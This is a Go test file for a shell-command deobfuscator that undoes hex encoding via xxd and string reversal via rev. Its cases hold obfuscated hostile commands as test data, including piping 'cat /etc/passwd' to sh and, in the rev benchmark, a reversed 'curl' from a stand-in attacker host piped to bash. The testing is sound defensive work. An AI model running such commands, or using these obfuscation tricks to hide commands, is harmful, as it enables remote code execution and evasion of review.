package deobfuscate

import "testing"

func TestShXXD(t *testing.T) {
	runTransformTable(t, ShXXD, []transformCase{
		{"xxd -r -p", `echo 636174202f6574632f706173737764 | xxd -r -p | sh`, `echo 'cat /etc/passwd' | sh`, true},
		{"quoted, -ps", `echo '77686f616d69' | xxd -r -ps`, `echo whoami`, true},
		{"-p -r in substitution", `$(echo 6964|xxd -p -r)`, `$(echo id)`, true},
		{"binary", `echo 00010203 | xxd -r -p > f`, `echo 00010203 | xxd -r -p > f`, false},
		{"dump, not revert", `echo 6964 | xxd -p`, `echo 6964 | xxd -p`, false},
	})
}

func TestShRev(t *testing.T) {
	runTransformTable(t, ShRev, []transformCase{
		{"echo pipe", `echo 'dwssap/cte/ tac' | rev | sh`, `echo 'cat /etc/passwd' | sh`, true},
		{"here string", `$(rev <<< 'imaohw')`, `$(echo whoami)`, true},
		{"bare word", `echo imaohw|rev`, `echo whoami`, true},
		{"expansion not read", `echo "$x" | rev`, `echo "$x" | rev`, false},
		{"rev on a file", `rev notes.txt`, `rev notes.txt`, false},
	})
}

func FuzzShXXD(f *testing.F) {
	fuzzTransform(f, ShXXD, `echo 6964 | xxd -r -p`, `echo '6 9 6' | xxd -r -ps`)
}

func FuzzShRev(f *testing.F) {
	fuzzTransform(f, ShRev, `echo 'imaohw' | rev`, `rev <<< "a"`, "echo 'a\nb\xff' | rev")
}

func BenchmarkShXXD(b *testing.B) {
	benchTransform(b, ShXXD, `echo 636174202f6574632f706173737764 | xxd -r -p | sh`)
}

func BenchmarkShRev(b *testing.B) {
	benchTransform(b, ShRev, `echo 'hsab | hs.a/lpmaxe.live//:ptth s- lruc' | rev | sh`)
}
